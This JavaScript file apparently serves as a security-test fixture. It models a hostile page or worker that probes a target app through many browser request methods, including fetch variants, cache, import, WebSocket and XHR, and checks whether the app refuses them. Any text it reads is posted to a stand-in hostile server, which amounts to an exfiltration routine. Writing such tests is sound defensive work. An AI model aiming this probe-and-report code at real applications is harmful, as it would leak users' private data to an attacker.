/**
 * What a hostile page, or a worker of one, tries in order to reach the app: to read from it, and to write to it. Each
 * way asks for `<target>/<context>/<way>`, so that what arrives tells where it came from.
 */

/** Milliseconds for what has no event that tells its end. */
const PAUSE_MS = 250;
const pause = (ms = PAUSE_MS) => new Promise((resolve) => setTimeout(resolve, ms));

/** Ways that documents and workers share. Each returns what it could read. */
const REQUESTS = {
  fetch: async (url) => (await fetch(url)).text(),
  'fetch-credentials': async (url) => (await fetch(url, { credentials: 'include' })).text(),
  'fetch-no-cors': async (url) => (await fetch(url, { mode: 'no-cors' })).text(),
  'fetch-post': async (url) => (await fetch(url, { method: 'POST', mode: 'no-cors', body: 'evil' })).text(),
  'fetch-json': async (url) =>
    (
      await fetch(url, { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } })
    ).text(),
  'fetch-delete': async (url) => (await fetch(url, { method: 'DELETE' })).text(),
  'fetch-keepalive': async (url) =>
    (await fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true })).text(),
  'fetch-redirect': async (url) => (await fetch(redirect(url))).text(),
  'fetch-redirect-post': async (url) =>
    (await fetch(redirect(url), { method: 'POST', mode: 'no-cors', body: 'evil' })).text(),
  'fetch-request': async (url) => (await fetch(new Request(url, { method: 'PUT', body: 'evil' }))).text(),
  cache: async (url) => {
    const cache = await caches.open('evil');
    await cache.add(new Request(url, { mode: 'no-cors' }));
    return (await cache.match(url)).text();
  },
  import: (url) => import(url),
  'event-source': (url) => ended(new EventSource(url), 'open', 'error'),
  'web-socket': (url) => ended(new WebSocket(url), 'open', 'error'),
};

const xhr = (url, method) => {
  const request = new XMLHttpRequest();
  request.open(method, url);
  const end = ended(request, 'load', 'error').then(() => request.responseText);
  request.send(method === 'GET' ? undefined : 'evil');
  return end;
};
const WORKER_REQUESTS = {
  'import-scripts': (url) => self.importScripts(url),
  xhr: (url) => xhr(url, 'GET'),
  'xhr-post': (url) => xhr(url, 'POST'),
  worker: (url) => ended(new Worker(url), 'message', 'error'),
};

const redirect = (url) => `${globalThis.SERVER}/redirect?to=${encodeURIComponent(url)}`;

/** Resolves at the first event; rejects at the second. Neither may come. */
function ended(target, good, bad) {
  return new Promise((resolve, reject) => {
    target[`on${good}`] = () => resolve('');
    target[`on${bad}`] = () => reject(new Error(bad));
  });
}

/** Tries all ways, and tells the hostile server what could be read, and when it is through. */
async function tryAll(ways, context) {
  const tries = Object.entries(ways).map(async ([name, way]) => {
    const url = `${globalThis.TARGET}/${context}/${name}`;
    try {
      const text = await Promise.race([way(url), pause(2000)]);
      if (typeof text === 'string' && text) await tell('read', `${context}/${name}: ${text.slice(0, 60)}`);
    } catch {
      // Refused, as it should be.
    }
  });
  await Promise.all(tries);
}
const tell = (what, text) =>
  fetch(`${globalThis.SERVER}/${what}`, { method: 'POST', mode: 'no-cors', body: text });

/** For workers of any kind. */
async function attackFromWorker(context) {
  const own = 'importScripts' in self && !('skipWaiting' in self) ? WORKER_REQUESTS : {};
  await tryAll({ ...REQUESTS, ...own }, context);
  await tell('done', context);
}
globalThis.attackFromWorker = attackFromWorker;
globalThis.hostile = { REQUESTS, xhr, redirect, ended, tryAll, tell, pause };
